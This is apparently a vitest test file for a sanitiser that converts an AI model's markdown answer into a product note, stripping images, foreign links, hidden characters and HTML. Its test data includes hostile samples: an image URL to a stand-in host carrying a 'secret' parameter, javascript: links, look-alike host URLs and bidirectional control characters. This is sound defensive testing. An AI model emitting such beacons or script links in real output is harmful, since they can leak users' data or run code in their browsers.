import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { ContentNode } from '../contentText.js';
import * as limits from '../limits.js';
import { writeMarkdown } from '../notes/markdown/writeMarkdown.js';
import { noteFilePath } from '../notes/noteFilePath.js';
import { checkNote, isOverNoteLimit, NoteInvalidError } from '../notes/noteSchema.js';
import { anyNote } from '../notes/testing/anyNote.js';
import { readAnswer } from './readAnswer.js';

const file = noteFilePath('01900000-0000-7000-8000-000000000001');
const isOwn = ({ host }: URL): boolean => host === 'snaplore.example';

const read = (answer: string): string => writeMarkdown(readAnswer(answer, { isOwn })).trimEnd();
function everything(node: ContentNode): ContentNode[] {
  return [node, ...(node.content ?? []).flatMap(everything)];
}
const typesOf = (answer: string): string[] => everything(readAnswer(answer, { isOwn })).map(({ type }) => type);
const linksOf = (node: ContentNode): unknown[] =>
  everything(node).flatMap(({ marks = [] }) =>
    marks.filter(({ type }) => type === 'link').map(({ attrs }) => attrs?.['href']),
  );

describe('the answer of a model', () => {
  it('is a note with headings, lists, tasks, quotes, code and tables', () => {
    const answer = [
      '# Plan',
      'Some **bold** and *soft* and ~~old~~ words with `code`.',
      '- one\n- two\n  - three',
      '3. third\n4. fourth',
      '- [ ] open\n- [x] done',
      '> said',
      '```js\nlet a = 1;\n```',
      '| who | when |\n| --- | ---: |\n| Maya | today |',
      '---',
    ].join('\n\n');
    expect(read(answer)).toBe(read(read(answer)));
    expect(new Set(typesOf(answer))).toEqual(
      new Set([
        ...['doc', 'heading', 'paragraph', 'text', 'bulletList', 'listItem', 'orderedList', 'taskList', 'taskItem'],
        ...['blockquote', 'codeBlock', 'table', 'tableRow', 'tableHeader', 'tableCell', 'horizontalRule'],
      ]),
    );
  });

  it.each([
    [
      'of the web',
      '![A chart](https://evil.example/pixel.png?d=secret)',
      'A chart (https\\://evil.example/pixel.png?d=secret)',
    ],
    ['of a note', `See ![the wheel](${file}) here`, 'See the wheel here'],
    ['in HTML', `<img src="${file}" alt="the wheel"> turns`, 'the wheel turns'],
    ['within the text', 'An ![dot](data:image/png;base64,AAAA) image', 'An  image'],
  ])('has no image %s', (_, answer, words) => {
    expect(typesOf(answer)).not.toContain('image');
    expect(read(answer)).toBe(words);
    expect(linksOf(readAnswer(answer, { isOwn }))).toEqual([]);
  });

  it.each([
    ['with words', '[Our **bank**](https://evil.example/a)!', 'Our **bank** (https\\://evil.example/a)!'],
    ['that says where it leads', '<https://evil.example/a>', 'https\\://evil.example/a'],
    ['that is only written', 'www.evil.example', 'www.evil.example (http\\://www.evil.example)'],
    ['to a mail', '[write](mailto:eve@evil.example)', 'write (mailto:eve@evil.example)'],
    ['without a scheme', '[x](//evil.example/a)', 'x (//evil.example/a)'],
    ['that only looks like a path', '[x](/\\evil.example)', 'x (/\\evil.example)'],
    ['with a script', '[x](javascript:alert(1))', '\\[x]\\(javascript:alert(1))'],
    ['with a script in HTML', '<a href="javascript:alert(1)">x</a>', 'x'],
    ['to a place on no page', '[x](#top)', 'x (#top)'],
    [
      'to a look-alike',
      '[x](https://snaplore.example@evil.example/)',
      'x (https\\://snaplore.example\\@evil.example/)',
    ],
  ])('shows a link %s as text', (_, answer, words) => {
    expect(linksOf(readAnswer(answer, { isOwn }))).toEqual([]);
    expect(read(answer).replaceAll('\\', '')).toBe(words.replaceAll('\\', ''));
  });

  it('keeps links to pages of the product', () => {
    const answer = '[a](/b/x/y?t=12) and [b](https://snaplore.example/b/x) and [c](https://snaplore.example/b/x)';
    expect(linksOf(readAnswer(answer, { isOwn }))).toEqual([
      '/b/x/y?t=12',
      'https://snaplore.example/b/x',
      'https://snaplore.example/b/x',
    ]);
    expect(linksOf(readAnswer(answer))).toEqual(['/b/x/y?t=12']);
  });

  it('mentions nobody, attaches nothing, and hides nothing by its looks', () => {
    const answer =
      '<span data-type="mention" data-id="01900000-0000-7000-8000-000000000002" data-label="Maya">@Maya</span> ' +
      '<span data-text-colour="#ffffff" style="color:#ffffff">white</span>\n\n' +
      `<div><a href="${file}" data-file="plan.pdf" data-size="1" data-time="1">plan.pdf</a></div>\n\n` +
      '<div data-type="columns" data-layout="two-column">\n<div data-type="column">\n\nleft\n\n</div>\n' +
      '<div data-type="column">\n\nright\n\n</div>\n</div>';
    const note = readAnswer(answer, { isOwn });
    expect(new Set(everything(note).map(({ type }) => type))).toEqual(new Set(['doc', 'paragraph', 'text']));
    expect(everything(note).flatMap(({ marks = [] }) => marks)).toEqual([]);
    expect(read(answer)).toBe('@Maya white\n\nplan.pdf\n\nleft\n\nright');
  });

  it.each([
    ['as they are', 'pay\u200Bload \u202Eabc\u202C\u{E0041}'],
    ['as references', 'pay&#x200B;load &#x202E;abc&#x202C;&#xE0041;'],
  ])('has no hidden characters, written %s', (_, answer) => {
    expect(read(answer)).toBe('payload abc');
  });

  it.each([
    ['closed', '```markdown\n# Plan\n\n- one\n```'],
    ['by another name', '````md\n# Plan\n\n- one\n````\n'],
    ['that is never closed', '```markdown\n# Plan\n\n- one'],
  ])('loses a fence around the whole of it, %s', (_, answer) => {
    expect(read(answer)).toBe('# Plan\n\n- one');
  });

  it('keeps code within such a fence, and a fence around a part', () => {
    expect(read('```markdown\nRun:\n\n```js\nlet a = 1;\n```\n\nDone.\n```')).toBe(
      'Run:\n\n```javascript\nlet a = 1;\n```\n\nDone.',
    );
    expect(typesOf('```markdown\n# Plan\n```\n\nThat was it.')).toContain('codeBlock');
    expect(typesOf('```js\nlet a = 1;\n```')).toContain('codeBlock');
  });

  it.each([
    ['says nothing', ' \n\n<!-- nothing -->'],
    ['is longer than a note', 'word '.repeat(limits.editorCharacters / 4)],
    ['is far longer than a note', 'x'.repeat(limits.liveNoteCharacters + 1)],
  ])('is refused when it %s', (_, answer) => {
    expect(() => readAnswer(answer)).toThrow(NoteInvalidError);
  });

  const markup = fc.constantFrom(
    ...['# ', '- ', '- [ ] ', '1. ', '> ', '```', '```markdown\n', '| a | b |\n| - | - |\n| c |', '\n', '\n\n', '    '],
    ...[
      '![x](',
      `![x](${file})`,
      '[x](https://evil.example)',
      '[x](/b)',
      ')',
      '**',
      '`',
      '&#x202E;',
      '\u200D',
      '\uD83D',
    ],
    ...['<table><tr><td colspan=3>', '</td>', '<ul><li>', '<img src=x>', `<a href="${file}" data-file="x">`, '<div>'],
    ...[
      '<span data-type="mention" data-id="x">',
      '</span>',
      '<pre>',
      '<p data-indent="30">',
      '\u0000',
      '<script>',
      '<',
    ],
  );
  const answers = fc.oneof(
    fc.string({ unit: 'binary' }),
    anyNote.map((note) => writeMarkdown(note)),
    fc
      .array(fc.oneof({ weight: 3, arbitrary: markup }, fc.string({ maxLength: 4 })), { maxLength: 30 })
      .map((parts) => parts.join('')),
  );
  const plain = new Set([
    ...['doc', 'paragraph', 'heading', 'bulletList', 'orderedList', 'listItem', 'taskList', 'taskItem', 'blockquote'],
    ...['codeBlock', 'horizontalRule', 'table', 'tableRow', 'tableHeader', 'tableCell', 'hardBreak', 'text'],
  ]);

  it('makes a valid note within its limits, or none, whatever it is', () => {
    fc.assert(
      fc.property(answers, (answer) => {
        let note: ContentNode;
        try {
          note = readAnswer(answer, { isOwn });
        } catch (error) {
          expect(error).toMatchObject({ name: 'NoteInvalidError', message: 'The answer says nothing' });
          return;
        }
        expect(isOverNoteLimit(checkNote(note))).toBe(false);
        for (const { type, text = '' } of everything(note)) {
          expect(plain).toContain(type);
          expect(text).not.toMatch(/[\u202E\u200B]|\p{Cs}/u);
        }
        for (const href of linksOf(note)) expect(String(href)).toMatch(/^(?:\/(?![/\\])|https:\/\/snaplore\.example)/);
      }),
      { numRuns: 500 },
    );
  });
});
